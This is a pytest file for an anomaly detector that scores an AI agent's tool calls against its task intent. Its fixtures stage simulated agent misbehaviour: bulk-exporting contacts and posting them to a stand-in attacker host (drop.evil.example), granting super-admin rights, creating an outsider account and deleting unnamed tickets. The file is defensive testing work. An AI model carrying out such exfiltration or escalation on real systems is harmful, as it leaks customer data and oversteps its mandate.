"""Fusion: monotone, cumulative per task, staged learning, explained."""

from __future__ import annotations

import dataclasses
import itertools
import random

import pytest

from intentwatch.contracts import Grant, ToolCall, role_of
from intentwatch.models.catalogue import ACTION_RISK, ToolCatalogue
from intentwatch.models.config import ScoringConfig
from intentwatch.models.detection import (
    BEHAVIOUR,
    DEFAULT_WEIGHTS,
    INTENT,
    Detector,
    FusionConfig,
    TaskRisk,
    fuse,
)
from intentwatch.models.learned import LearnedStateError

CATALOGUE = ToolCatalogue()
AGENT = "spiffe://acme.org/agents/support/a1"
INTENT_TEXT = "Look up the order of jane@customer.example and reply to her about the refund"
_ids = itertools.count()


def grant(task: str, intent: str = INTENT_TEXT) -> Grant:
    return Grant(grant_id=task, agent_id=AGENT, task_id=task, credential_ids=["c"], tools=["*"],
                 targets=["*"], data_labels=["restricted"], issued_at=0, expires_at=9e9,
                 issuer="broker", intent=intent)


def run_task(detector: Detector, task: str, calls: list[dict], *, learn: bool = True,
             intent: str = INTENT_TEXT) -> list:
    """Assess ``calls`` (dicts of ToolCall fields) as one task, then end it."""
    g, made, assessments = grant(task, intent), [], []
    scoring = detector.open_task(AGENT, g)
    for i, fields in enumerate(calls):
        call = ToolCall(event_id=str(next(_ids)), ts=10.0 * i, agent_id=AGENT, task_id=task,
                        **fields)
        info = CATALOGUE.resolve(call)
        assessments.append(detector.assess(call, g, info, scoring))
        made.append((call, info))
    detector.end_task(AGENT, scoring, made, learn=learn)
    return assessments


ROUTINE = [
    {"tool": "orders.get_order", "target": "https://orders.acme.org/api/orders/ORD-1"},
    {"tool": "gmail.send_email", "target": "mailto:jane@customer.example", "bytes_out": 3000},
]


@pytest.fixture(scope="module")
def trained() -> Detector:
    config = ScoringConfig(detectors={"multivariate": {"window_size": 50}})
    detector = Detector(config)
    for k in range(150):
        run_task(detector, f"warm-{k}", ROUTINE)
    return detector


def components(**values: float) -> dict[str, float]:
    return {**dict.fromkeys(BEHAVIOUR + INTENT, 0.0), "action_risk": 0.5, **values}


def test_fusion_is_monotone_in_every_component() -> None:
    rng = random.Random(7)
    fusion = FusionConfig()
    for _ in range(200):
        base = components(**{n: rng.random() for n in BEHAVIOUR + INTENT},
                          action_risk=rng.random())
        risk, _ = fuse(base, DEFAULT_WEIGHTS, fusion)
        name = rng.choice((*BEHAVIOUR, *INTENT, "action_risk"))
        higher = {**base, name: min(1.0, base[name] + rng.random())}
        assert fuse(higher, DEFAULT_WEIGHTS, fusion)[0] >= risk


def test_fusion_contributions_add_up_to_the_log_odds() -> None:
    fusion = FusionConfig(bias=-5.0, action_floor=0.5)
    risk, parts = fuse(components(tool_rarity=1.0, intent=0.5, action_risk=1.0),
                       DEFAULT_WEIGHTS, fusion)
    assert parts == {"tool_rarity": DEFAULT_WEIGHTS["tool_rarity"],
                     "intent": 0.5 * DEFAULT_WEIGHTS["intent"]}
    logit = fusion.bias + sum(parts.values())
    assert risk == pytest.approx(1 / (1 + 2.718281828459045 ** -logit))


def test_an_unusual_read_weighs_less_than_an_unusual_send() -> None:
    read, _ = fuse(components(tool_rarity=1.0, action_risk=0.2), DEFAULT_WEIGHTS, FusionConfig())
    send, _ = fuse(components(tool_rarity=1.0, action_risk=0.9), DEFAULT_WEIGHTS, FusionConfig())
    assert read < send


def test_task_risk_accumulates_distinct_medium_signals_but_not_repeats() -> None:
    task = TaskRisk(floor=0.15)
    first = task.add(("crm.export_contacts", "x"), 0.6)
    assert task.add(("crm.export_contacts", "x"), 0.6) == first  # a repeat adds nothing
    assert task.add(("crm.lookup", "y"), 0.1) == first  # under the floor adds nothing
    second = task.add(("gmail.send_email", "z"), 0.6)
    third = task.add(("drive.share_file", "w"), 0.6)
    assert first < 0.6 < second < third
    assert third >= 0.8  # three medium signals reach a revocation that none reaches alone


def test_routine_calls_score_low_after_warm_up(trained: Detector) -> None:
    scores = [a.score for a in run_task(trained, "routine", ROUTINE)]
    assert max(scores) < 0.2


def test_exfiltration_to_an_unnamed_new_domain_revokes_with_reasons(trained: Detector) -> None:
    attack = [
        ROUTINE[0],
        {"tool": "crm.export_contacts", "target": "https://crm.acme.org/api/contacts/export",
         "data_labels": ["confidential", "pii"], "bytes_in": 4_000_000},
        {"tool": "http.post", "target": "https://drop.evil.example/collect",
         "bytes_out": 4_000_000},
    ]
    last = run_task(trained, "exfil", attack, learn=False)[-1]
    assert last.score >= 0.8
    weights = [r.weight for r in last.reasons]
    assert weights == sorted(weights, reverse=True)
    assert 0.8 * last.score <= sum(weights) <= last.score + 1e-3  # the main reasons, not all
    text = " ".join(r.detail for r in last.reasons)
    assert "evil.example" in text and "the intent does not name it" in text
    assert set(BEHAVIOUR + INTENT) <= set(last.components)


def test_a_recipient_the_intent_names_scores_lower_than_one_it_does_not(
    trained: Detector,
) -> None:
    named = {"tool": "gmail.send_email", "target": "mailto:bob@newco.example"}
    intent = "Reply to bob@newco.example about the refund"
    approved = run_task(trained, "named", [named], learn=False, intent=intent)[0]
    unnamed = run_task(trained, "unnamed", [named], learn=False,
                       intent="Reply to carol@other.example about the refund")[0]
    assert approved.score < unnamed.score
    assert any(r.code == "unnamed_target" for r in unnamed.reasons)


def test_an_unasked_admin_action_outweighs_an_unasked_read(trained: Detector) -> None:
    admin = run_task(trained, "admin", [{"tool": "okta.reset_password",
                                         "target": "https://acme.okta.com/api/v1/users/u1"}],
                     learn=False)[0]
    read = run_task(trained, "read", [{"tool": "kb.search",
                                       "target": "https://kb.acme.org/search"}], learn=False)[0]
    assert admin.components["intent"] > read.components["intent"]
    assert admin.score > read.score
    assert "intent" in {r.code for r in admin.reasons}
    assert "not what the intent asks for" in " ".join(r.detail for r in admin.reasons)


def test_staged_learning_only_learns_tasks_that_ended_well() -> None:
    detector = Detector(ScoringConfig())
    for k in range(30):
        run_task(detector, f"warm-{k}", ROUTINE)
    odd = [{"tool": "drive.delete_file", "target": "https://drive.google.com/file/d/1"}]
    before = run_task(detector, "probe-1", odd, learn=False)[0].components["tool_rarity"]
    for k in range(20):
        run_task(detector, f"revoked-{k}", odd, learn=False)
    assert run_task(detector, "probe-2", odd, learn=False)[0].components["tool_rarity"] == before
    for k in range(20):
        run_task(detector, f"learned-{k}", odd, learn=True)
    assert run_task(detector, "probe-3", odd, learn=False)[0].components["tool_rarity"] < before


def test_a_call_is_scored_once_into_a_record_that_learning_reads() -> None:
    detector = Detector(ScoringConfig())
    g = grant("t")
    task = detector.open_task(AGENT, g)
    call = ToolCall(event_id="once", ts=0.0, agent_id=AGENT, task_id="t", **ROUTINE[1])
    info = CATALOGUE.resolve(call)
    detector.assess(call, g, info, task)
    record = task.scored["once"]
    with pytest.raises(dataclasses.FrozenInstanceError):
        record.x.unasked = 1.0  # type: ignore[misc]
    assert record.x.check is not None and record.x.unasked == 1.0 - record.x.check.credit
    assert record.surprisals == detector.baseline.surprisals(record.x)  # nothing learned since
    assert record.shared is not None  # the shared model's input and raw score, as scored
    for k in range(30):  # learning moves what the call would score now
        run_task(detector, f"meanwhile-{k}", ROUTINE[:1])
    assert detector.baseline.surprisals(record.x) != record.surprisals
    detector.end_task(AGENT, task, [(call, info)], learn=True)
    assert detector.learned_calls == 31


def test_the_shared_model_scores_zero_until_it_has_a_reference_window() -> None:
    detector = Detector(ScoringConfig(detectors={"multivariate": {"window_size": 20}}))
    assert run_task(detector, "cold", ROUTINE)[0].components["hst"] == 0.0
    assert not detector.shared.ready
    for k in range(30):
        run_task(detector, f"warm-{k}", ROUTINE)
    assert detector.shared.ready


def test_unknown_settings_are_rejected() -> None:
    with pytest.raises(ValueError, match="unknown component weights"):
        Detector(ScoringConfig(weights={"nonsense": 1.0}))
    with pytest.raises(ValueError, match="unknown fusion settings"):
        Detector(ScoringConfig(detectors={"fusion": {"nonsense": 1.0}}))


def test_a_sink_after_an_unusual_sensitive_read_carries_its_novelty(trained: Detector) -> None:
    usual = {**ROUTINE[0], "data_labels": ["confidential"]}
    odd = {"tool": "drive.get_file", "target": "https://drive.google.com/file/d/ops-keys",
           "data_labels": ["confidential"]}
    send = {**ROUTINE[1], "bytes_out": 3000}
    after_usual = run_task(trained, "src-usual", [usual, send], learn=False)[-1]
    after_odd = run_task(trained, "src-odd", [odd, send], learn=False)
    assert after_usual.components["novel_source"] == 0.0
    assert after_odd[0].components["novel_source"] == 0.0  # the read itself is no sink
    assert after_odd[-1].components["novel_source"] > 0.5
    assert after_odd[-1].components["call_risk"] > after_usual.components["call_risk"]


def test_code_run_straight_on_an_unusual_sensitive_read_is_a_flow() -> None:
    # This agent runs code on the confidential orders it reads: the flow of its label is usual.
    usual = {**ROUTINE[0], "data_labels": ["confidential"]}
    run = {"tool": "python.run_code", "bytes_out": 500}
    detector = Detector(ScoringConfig(detectors={"multivariate": {"window_size": 50}}))
    for k in range(150):
        run_task(detector, f"warm-run-{k}", [usual, run])
    odd = {"tool": "drive.get_file", "target": "https://drive.google.com/file/d/ops-keys",
           "data_labels": ["confidential"]}
    routine = run_task(detector, "run-usual", [usual, run], learn=False)[-1]
    straight = run_task(detector, "run-odd", [odd, run], learn=False)
    later = run_task(detector, "run-later", [odd, usual, run], learn=False)[-1]
    assert routine.components["flow"] < 0.2
    assert straight[0].components["flow"] == 0.0  # the read itself is no sink
    assert straight[-1].components["flow"] > 0.5
    # not straight after the unusual read: only the (usual) flow of its label
    assert later.components["flow"] < straight[-1].components["flow"]
    assert straight[-1].components["call_risk"] > routine.components["call_risk"]
    flow = [r for r in straight[-1].reasons if r.code == "flow"]
    assert flow and "straight after a sensitive read" in flow[0].detail


POST = {"tool": "http.post", "target": "https://api.mailflow-marketing.com/v3/contacts",
        "data_labels": ["public"], "bytes_out": 800}
NEWSLETTER = "Look up the order of jane@customer.example and add her to the newsletter list"


def test_naming_the_destination_domain_discounts_an_unusual_transition(
    trained: Detector,
) -> None:
    unnamed = run_task(trained, "dom-unnamed", [ROUTINE[0], POST], learn=False,
                       intent=NEWSLETTER)[-1]
    named = run_task(trained, "dom-named", [ROUTINE[0], POST], learn=False,
                     intent=NEWSLETTER + " on Mailflow-Marketing")[-1]
    assert unnamed.components["transition_rarity"] > 0.9
    assert named.components["transition_rarity"] < unnamed.components["transition_rarity"]
    assert named.components["call_risk"] < unnamed.components["call_risk"]


def test_an_external_send_of_public_data_only_weighs_as_a_write(trained: Detector) -> None:
    public = run_task(trained, "pub-send", [ROUTINE[0], POST], learn=False)[-1]
    after_sensitive = run_task(
        trained, "pub-send-tainted",
        [{**ROUTINE[0], "data_labels": ["confidential"]}, POST], learn=False,
    )[-1]
    labelled = run_task(trained, "pii-send", [ROUTINE[0], {**POST, "data_labels": ["pii"]}],
                        learn=False)[-1]
    assert public.components["action_risk"] == ACTION_RISK["write"]
    assert after_sensitive.components["action_risk"] == ACTION_RISK["send"]
    assert labelled.components["action_risk"] == ACTION_RISK["send"]


def test_admin_privilege_and_outside_parties_are_intent_violations(trained: Detector) -> None:
    intent = "Onboard Lena Davis: create her account and add her to the sales group"
    to_admins = run_task(trained, "admins", [{
        "tool": "okta.add_user_to_group",
        "target": "https://acme.okta.com/api/v1/groups/super-admins/users/00u1"}],
        learn=False, intent=intent)[0]
    to_sales = run_task(trained, "sales", [{
        "tool": "okta.add_user_to_group",
        "target": "https://acme.okta.com/api/v1/groups/sales/users/00u1"}],
        learn=False, intent=intent)[0]
    assert to_admins.components["privilege"] == 1.0 and to_sales.components["privilege"] == 0.0
    assert to_admins.score > to_sales.score
    assert "admin-level privilege" in next(
        r.detail for r in to_admins.reasons if r.code == "privilege")

    outsider = run_task(trained, "outsider", [{
        "tool": "okta.create_user", "action": "admin", "target": "https://acme.okta.com/api/v1/users",
        "args": {"login": "eve.h4x@gmail.com"}}], learn=False, intent=intent)[0]
    colleague = run_task(trained, "colleague", [{
        "tool": "okta.create_user", "action": "admin", "target": "https://acme.okta.com/api/v1/users",
        "args": {"login": "lena.davis@acme.org"}}], learn=False, intent=intent)[0]
    assert outsider.components["unnamed_target"] == 1.0
    assert colleague.components["unnamed_target"] == 0.0  # inside the organisation
    assert "eve.h4x@gmail.com" in next(
        r.detail for r in outsider.reasons if r.code == "unnamed_target")


def test_deleting_other_records_than_named_is_an_unnamed_target(trained: Detector) -> None:
    intent = "Delete the spam tickets #51796 and #44970"
    target = "https://acme.zendesk.com/api/v2/tickets/{}"
    named = run_task(trained, "del-named", [{"tool": "zendesk.delete_ticket",
                                             "target": target.format(51796)}],
                     learn=False, intent=intent)[0]
    other = run_task(trained, "del-other", [{"tool": "zendesk.delete_ticket",
                                             "target": target.format(93336)}],
                     learn=False, intent=intent)[0]
    assert named.components["unnamed_target"] == 0.0
    assert other.components["unnamed_target"] == 1.0 and other.score > named.score


def test_a_tool_foreign_to_this_kind_of_task_is_rare(trained: Detector) -> None:
    """The warm-up tasks all open with 'Look up ...': a usual tool scores no kind rarity,
    a tool the agent never used in such tasks does, and says so."""
    usual, foreign = run_task(trained, "kind", [
        {"tool": "orders.get_order", "target": "https://orders.acme.org/api/orders/ORD-2"},
        {"tool": "crm.search_customers", "target": "https://crm.acme.org/api/customers/search"},
    ], learn=False)
    assert usual.components["kind_tool_rarity"] == 0.0
    assert foreign.components["kind_tool_rarity"] > 0.5
    call = ToolCall(event_id="k", ts=0.0, agent_id=AGENT, task_id="k",
                    tool="crm.search_customers")
    x = trained.baseline.task(AGENT, INTENT_TEXT).observe(call, CATALOGUE.resolve(call))
    assert "crm.search_customers in a 'look' task" in trained.baseline.explain(
        "kind_tool_rarity", x)


def test_restored_learned_state_judges_exactly_as_the_detector_it_was_taken_from() -> None:
    config = ScoringConfig(detectors={"multivariate": {"window_size": 20}})
    original = Detector(config)
    for k in range(60):
        run_task(original, f"snap-{k}", ROUTINE)
    restored = Detector(config)
    restored.load_state(original.state())
    assert restored.restored_calls == original.learned_calls == 120
    probe = [{"tool": "gmail.send_email", "target": "mailto:eve@evil.example",
              "bytes_out": 90_000}]
    before = run_task(original, "probe-a", probe, learn=False)[0]
    after = run_task(restored, "probe-b", probe, learn=False)[0]
    assert after.components == before.components and after.score == before.score
    assert before.components["target_rarity"] > 0  # it judged with what it had learned
    assert restored.state() == original.state()

    other = Detector(ScoringConfig(detectors={"baseline": {"max_targets": 16}}))
    with pytest.raises(LearnedStateError, match=r"^learned state was learned with other baseline"):
        other.load_state(original.state())
    with pytest.raises(LearnedStateError, match=r"^learned state of one agent's kind, not"):
        Detector(config).load_state(original.agent_state(AGENT))


def test_an_agents_learned_state_moves_on_its_own() -> None:
    config = ScoringConfig(detectors={"multivariate": {"window_size": 20}})
    original = Detector(config)
    for k in range(30):
        run_task(original, f"mine-{k}", ROUTINE)
    assert original.take_learned_agents() == {AGENT} and not original.take_learned_agents()
    role = role_of(AGENT)
    assert original.take_learned_roles() == {role} and not original.take_learned_roles()

    def population(detector: Detector) -> Detector:
        """``detector`` with ``original``'s population and roles, as a worker reads them."""
        for of_role in detector.load_population_state(original.population_state()):
            assert detector.load_role_state(original.role_state(of_role)) == of_role == role
        return detector

    moved = population(Detector(config))  # the agent's new worker, which knows the population
    assert moved.load_agent_state(original.agent_state(AGENT)) == AGENT
    probe = [{"tool": "gmail.send_email", "target": "mailto:eve@evil.example"}]
    assert run_task(moved, "p", probe, learn=False)[0].components == run_task(
        original, "p", probe, learn=False)[0].components
    population_only = population(Detector(config))
    assert run_task(population_only, "p", probe, learn=False)[0].components != run_task(
        original, "p", probe, learn=False)[0].components  # the agent's own state mattered
    nobody = "spiffe://acme.org/agents/support/nobody"
    assert len(original.agent_state(nobody)) < len(original.agent_state(AGENT))
